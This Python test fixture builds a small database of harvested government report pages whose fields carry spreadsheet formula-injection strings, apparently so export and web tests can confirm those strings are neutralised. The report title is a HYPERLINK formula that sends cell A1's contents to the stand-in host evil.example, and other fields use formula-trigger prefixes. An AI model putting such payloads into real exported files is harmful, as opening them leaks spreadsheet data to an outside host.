"""A small store whose harvested pages carry text a spreadsheet would run as a formula
(shared by tests/export and tests/web)."""
from __future__ import annotations

import datetime as dt

from storage.database import open_database, sqlite_url
from storage.models import Content, Document, Portal, Report, Snapshot

TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"2023年报告")'
AGENCY = "+甲区财政局"
HOSTILE = {"title": TITLE, "agency": AGENCY, "url_tail": "@x", "portal_name": "-门户"}
TEXTS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "#N/A", "plain", "'quoted")


def build(tmp_path):
    """One portal, one report (2023) with hostile title and agency, a negative table cell
    (``applications.new.natural_person`` = -8) and a stored capture."""
    db = open_database(sqlite_url(tmp_path / "hostile.db"))
    at = dt.datetime(2024, 1, 20, tzinfo=dt.timezone.utc)
    with db.session() as s:
        s.add(Portal(id="p", name=HOSTILE["portal_name"], url="http://127.0.0.1/"))
        s.add(Report(id=1, agency=AGENCY, year=2023, first_seen=at))
        s.flush()
        sha = "a" * 64
        s.add(Content(sha256=sha, size=1, extractor_version="t", agency=AGENCY, title=TITLE, year=2023,
                      published="2024-01-20", format="2021", is_annual_report=True, image_only=False,
                      record={"agency_simplified": AGENCY, "image_only": False, "checks": [],
                              "missing_tables": [], "partial_tables": [],
                              "tables": {"applications": {"new": {"natural_person": -8, "total": 5}}}}))
        s.flush()
        doc = Document(portal_id="p", url="http://127.0.0.1/" + HOSTILE["url_tail"], kind="article",
                       current_sha256=sha, is_report=True, report_id=1)
        s.add(doc)
        s.flush()
        s.add(Snapshot(document_id=doc.id, fetched_at=at, status=200, headers={}, sha256=sha, size=1,
                       warc_file="x.warc.gz", warc_offset=0, warc_length=1, warc_record_id="<urn:uuid:1>"))
    return db
